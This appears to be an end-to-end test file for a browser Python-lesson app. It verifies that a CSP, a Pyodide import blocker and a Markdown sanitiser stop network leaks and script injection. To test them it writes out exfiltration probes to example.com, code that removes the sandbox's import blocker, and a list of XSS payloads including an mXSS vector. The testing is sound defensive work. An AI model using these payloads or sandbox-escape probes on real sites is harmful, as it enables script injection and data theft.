/**
 * Issue 5.4 in the built app: nothing leaves the browser. The page is served with a CSP
 * that allows only its own origin; Python code that tries to reach the network fails
 * however it gets at JavaScript; lesson Markdown cannot inject script. And (issue 5) a
 * lesson's bad input never leaves the app blank.
 *
 * The harness blocks and records every request to another origin (`foreignRequests`) and
 * makes every host but 127.0.0.1 unresolvable, so an empty list means nothing was sent.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { productionCsp } from '../../src/security/headers';
import type { AppSession } from './harness';
import { panel, ready } from './panel-helpers';
import { openWithDraft, output, runScenario, shipped } from './reliability-helpers';

let app: AppSession | undefined;
afterEach(async () => {
  await app?.close();
  app = undefined;
});

describe('a CSP that allows only the own origin', () => {
  it('is sent with the page, and the browser enforces it', async () => {
    app = await openWithDraft({}, '/?lang=en');
    const response = await app.page.request.get(`${app.baseUrl}/?lang=en`);
    expect(response.headers()['content-security-policy']).toBe(productionCsp);
    expect(await app.page.evaluate(() => globalThis.crossOriginIsolated)).toBe(true);
    const attempts = await app.page.evaluate(async () => {
      const out: string[] = [];
      try {
        await fetch('https://example.com/leak');
        out.push('fetch: sent');
      } catch {
        out.push('fetch: refused');
      }
      const img = new Image();
      const loaded = new Promise<string>((resolve) => {
        img.onload = () => resolve('image: loaded');
        img.onerror = () => resolve('image: refused');
      });
      img.src = 'https://example.com/pixel.png';
      out.push(await loaded);
      try {
        out.push(
          `beacon: ${navigator.sendBeacon('https://example.com/beacon', 'x') ? 'queued' : 'refused'}`,
        );
      } catch {
        out.push('beacon: refused');
      }
      return out;
    });
    expect(attempts).toEqual([
      'fetch: refused',
      'image: refused',
      expect.stringMatching(/^beacon: /),
    ]);
    await expect.poll(() => app?.cspViolations.length ?? 0).toBeGreaterThanOrEqual(2);
    // Playwright reports a 'request' even for an image Chromium's CSP blocked before it was
    // sent (the harness's route never sees it): every foreign URL must be one CSP refused.
    for (const url of app.foreignRequests) {
      expect(
        app.cspViolations.some((v) => v.includes(url)),
        url,
      ).toBe(true);
    }
  });
});

const NETWORK_ATTEMPTS = `
results = []
for attempt in ("import js", "from js import fetch", "import pyodide.http", "from pyodide.http import pyfetch",
                "import urllib.request", "import http.client", "import socket", "import micropip"):
    try:
        exec(attempt, {})
        results.append(attempt + ": imported")
    except ImportError:
        results.append(attempt + ": refused")

# Around the import blocker (Python has no sandbox): take the recorder's finder out.
import sys
for finder in list(sys.meta_path):
    if type(finder).__name__.endswith("NetworkBlocker"):
        sys.meta_path.remove(finder)
import js
results.append("got js: " + str(hasattr(js, "fetch")))
probes = {
    "js.fetch": lambda: js.fetch("https://example.com/leak?secret=1"),
    "prototype fetch": lambda: js.WorkerGlobalScope.prototype.fetch.call(js.self, "https://example.com/leak2"),
    "XMLHttpRequest": lambda: js.XMLHttpRequest.new(),
    "WebSocket": lambda: js.WebSocket.new("wss://example.com/leak3"),
    "EventSource": lambda: js.EventSource.new("https://example.com/leak4"),
    "importScripts": lambda: js.importScripts("https://example.com/leak5.js"),
    # Storage that outlives the run (Cache Storage also holds what the service worker
    # serves), channels to other pages, and the worker's own line to the page.
    "caches": lambda: js.caches.open("app"),
    "prototype caches": lambda: js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, "caches").get.call(js.self),
    "indexedDB": lambda: js.indexedDB.open("kept"),
    "navigator.storage": lambda: js.navigator.storage.getDirectory(),
    "BroadcastChannel": lambda: js.BroadcastChannel.new("another-tab"),
    "postMessage": lambda: js.postMessage("forged"),
    # A font's url() is fetched when the face loads; Chromium's old file system outlives the page.
    "FontFace": lambda: js.FontFace.new("x", "url(https://example.com/leak6)").load(),
    "webkitRequestFileSystemSync": lambda: js.webkitRequestFileSystemSync(0, 4096),
    # Code from strings could write import('https://...'): refused even without a CSP.
    "eval": lambda: js.eval("import('https://example.com/leak7.js')"),
    "Function": lambda: js.Function.new("return 1"),
    "a function's constructor": lambda: js.Object.getPrototypeOf(js.Object.keys).constructor.new("return 1"),
    "setTimeout with a string": lambda: js.setTimeout("import('https://example.com/leak8.js')", 0),
}

def postmessage_on_prototypes():
    # Chromium puts a global's operations on the global itself; look up the whole chain.
    o = js.Object.getPrototypeOf(js.self)
    while o != js.Object.prototype:
        found = js.Object.getOwnPropertyDescriptor(o, "postMessage")
        if found is not None:
            found.value.call(js.self, "forged")
            return  # it went through
        o = js.Object.getPrototypeOf(o)
    raise LookupError("no other postMessage: disabled in this playground")

probes["prototype postMessage"] = postmessage_on_prototypes
for name, probe in probes.items():
    try:
        probe()
        results.append(name + ": called")
    except Exception as exc:
        results.append(name + ": " + ("disabled" if "disabled in this playground" in str(exc) else type(exc).__name__))
print(*results, sep="\\n")
`;

describe('Python code cannot reach the network', () => {
  it('through imports (js, pyodide.http, urllib, ...) nor through the js module itself, nor storage or the page', async () => {
    app = await openWithDraft({
      draft: { 'scenarios/before.py': `${shipped('scenarios/before.py')}\n${NETWORK_ATTEMPTS}` },
    });
    const p = panel(app.page, 'audit_event');
    await ready(app.page, p);
    await runScenario(p, null, 'run', 'finished');
    const lines = (await output(p)).split('\n');
    for (const m of [
      'import js',
      'from js import fetch',
      'import pyodide.http',
      'from pyodide.http import pyfetch',
      'import urllib.request',
      'import http.client',
      'import socket',
      'import micropip',
    ]) {
      expect(lines).toContain(`${m}: refused`);
    }
    expect(lines).toContain('got js: True');
    for (const api of [
      'js.fetch',
      'prototype fetch',
      'XMLHttpRequest',
      'WebSocket',
      'EventSource',
      'importScripts',
      'caches',
      'prototype caches',
      'indexedDB',
      'navigator.storage',
      'BroadcastChannel',
      'postMessage',
      'prototype postMessage',
      'FontFace',
      'webkitRequestFileSystemSync',
      'eval',
      'Function',
      "a function's constructor",
      'setTimeout with a string',
    ]) {
      expect(lines).toContain(`${api}: disabled`);
    }
    // and the next run still works (the worker's own imports came back)
    await runScenario(p, 'after', 'run', 'finished');
    expect(await output(p)).toContain('entries: 1');
    // A request of our own, made after the runs, has gone through the gate: anything the
    // runs had sent would have reached it before.
    await app.page.evaluate(() => fetch('/favicon.svg').then((r) => r.ok));
    expect(app.foreignRequests).toEqual([]);
  });
});

const XSS = [
  'INERT-MARKER',
  '<script>window.__xss = "script"</script>',
  '<img src="x" onerror="window.__xss = \'img\'">',
  '<svg><script>window.__xss = "svg"</script></svg>',
  '<svg onload="window.__xss = \'svg-onload\'"></svg>',
  '<iframe srcdoc="<script>parent.__xss = \'iframe\'</script>"></iframe>',
  '<a href="javascript:window.__xss = \'href\'" id="xss-link">a link</a>',
  "[a markdown link](javascript:window.__xss='md')",
  '<form action="https://example.com/steal"><input name="q"><button id="xss-submit">go</button></form>',
  '<style>body { background: url("https://example.com/track.png") }</style>',
  '<img src="https://example.com/track.png" alt="tracker">',
  '<details open ontoggle="window.__xss = \'details\'">x</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=\'mxss\'">',
].join('\n\n');

describe("a lesson's Markdown cannot inject script", () => {
  it('renders an XSS payload in the prose inert', async () => {
    app = await openWithDraft({
      draft: { 'prose.en.md': `${shipped('prose.en.md')}\n\n${XSS}\n` },
    });
    const session = app;
    await session.page.getByText('INERT-MARKER').waitFor();
    const lesson = session.page.locator('[data-testid=lesson]');
    // Raw HTML is shown as text, so the reader sees what the author wrote...
    const text = (await lesson.textContent()) ?? '';
    expect(text).toContain('<script>window.__xss = "script"</script>');
    expect(text).toContain('<a href="javascript:window.__xss = \'href\'" id="xss-link">a link</a>');
    // ...and a Markdown link to a script URL keeps only its text.
    expect(await lesson.getByText('a markdown link').evaluate((el) => el.tagName)).not.toBe('A');
    expect(await session.page.evaluate(() => (window as { __xss?: string }).__xss)).toBeUndefined();
    // Only the prose is the lesson author's HTML; the panels' own forms (predictions,
    // breakpoints) are the app's.
    const found = await lesson.evaluate((root) => ({
      scripts: root.querySelectorAll('.prose script').length,
      iframes: root.querySelectorAll(
        '.prose :is(iframe, object, embed, form), .prose:is(iframe, object, embed, form)',
      ).length,
      handlers: [...root.querySelectorAll('.prose, .prose *')].flatMap((el) =>
        [...el.attributes]
          .filter((a) => a.name.startsWith('on'))
          .map((a) => `${el.tagName}.${a.name}`),
      ),
      jsLinks: [...root.querySelectorAll('.prose a[href]')].filter((a) =>
        /^\s*javascript:/i.test(a.getAttribute('href') ?? ''),
      ).length,
      styles: root.querySelectorAll('.prose style').length,
    }));
    expect(found).toEqual({ scripts: 0, iframes: 0, handlers: [], jsLinks: 0, styles: 0 });
    // The renderer did the work: the payload reached the page as text, so no inline
    // <script> and no javascript: URL was ever attempted in it.
    expect(session.cspViolations.filter((v) => /inline script|JavaScript URL/i.test(v))).toEqual(
      [],
    );
    // the tracker image is text now; had it been a tag, CSP would have refused it
    for (const url of session.foreignRequests) {
      expect(
        session.cspViolations.some((v) => v.includes(url)),
        url,
      ).toBe(true);
    }
  });
});

describe("a lesson's bad input never leaves the app blank", () => {
  async function expectNotBlank(session: AppSession, expectError: RegExp | null) {
    await session.page.locator('[data-testid=lesson-index]').waitFor();
    const text = (await session.page.locator('#root').textContent()) ?? '';
    expect(text.length).toBeGreaterThan(100);
    await expect(session.page.locator('[data-testid=runtime]').count()).resolves.toBe(1);
    if (expectError) {
      const card = session.page.locator('[data-testid=lesson-error]');
      await card.waitFor();
      expect(await card.textContent()).toMatch(expectError);
    }
    expect(session.pageErrors).toEqual([]);
  }

  it.each([
    ['invalid JSON in lesson.json', { 'lesson.json': '{"id": "s04-hooks",' }, /lesson\.json/],
    [
      'a lesson.json of the wrong shape',
      { 'lesson.json': '{"id": 42, "panels": "none"}' },
      /lesson\.json/,
    ],
    ['an empty lesson.json', { 'lesson.json': '' }, /lesson\.json/],
    ['a deleted entry file', { 'entries/run_hooks.py': null }, /run_hooks\.py/],
    [
      'a panel marker for a panel that does not exist',
      { 'prose.en.md': `${shipped('prose.en.md')}\n<!-- panel: nope -->\n` },
      /prose\.en\.md/,
    ],
    ['binary garbage in the prose', { 'prose.en.md': '\u0000\uFFFF\uD800'.repeat(1000) }, null],
  ] as const)('%s: the page shows the lesson or an error card', async (_what, draft, error) => {
    app = await openWithDraft({ draft: draft as Record<string, string | null> });
    await expectNotBlank(app, error);
  });

  it.each([
    ['not JSON', 'this is not json'],
    ['another version', '{"version": 99, "files": {"lesson.json": "{"}}'],
    ['files of the wrong type', '{"version": 1, "files": {"lesson.json": 42, "setup.py": ["x"]}}'],
    ['null', 'null'],
  ])(
    'a corrupted draft in storage (%s) is ignored: the shipped lesson shows',
    async (_what, stored) => {
      app = await openWithDraft({ storage: { 'wpt.draft.s04-hooks': stored } });
      await expectNotBlank(app, null);
      // the shipped lesson, with its panels
      await panel(app.page, 'run_hooks').waitFor();
      await expect(app.page.locator('[data-testid=lesson-error]').count()).resolves.toBe(0);
    },
  );

  it('a lesson that cannot be fetched says why, and Retry brings it', async () => {
    let refuse = true;
    app = await openWithDraft(
      {
        setup: (a) =>
          a.context.route(/\/lessons\/[^/]+\.json$/, (route) =>
            refuse ? route.abort('internetdisconnected') : route.continue(),
          ),
      },
      '/?lang=en',
    );
    const card = app.page.locator('[data-testid=lesson-unavailable]');
    await card.waitFor();
    // the lesson list still names every lesson: only the article is missing
    await expect(app.page.locator('[data-testid=lesson-index] a').count()).resolves.toBeGreaterThan(
      1,
    );
    refuse = false;
    await card.getByRole('button').click();
    await panel(app.page, 'run_hooks').waitFor();
    await expect(card.count()).resolves.toBe(0);
    expect(app.pageErrors).toEqual([]);
  });

  it('an unknown lesson id shows a "not found" card', async () => {
    app = await openWithDraft({}, '/?lesson=no-such-lesson&lang=en');
    await app.page.locator('[data-testid=lesson-index]').waitFor();
    await expect(app.page.locator('.error-card').count()).resolves.toBeGreaterThan(0);
    expect(app.pageErrors).toEqual([]);
  });
});
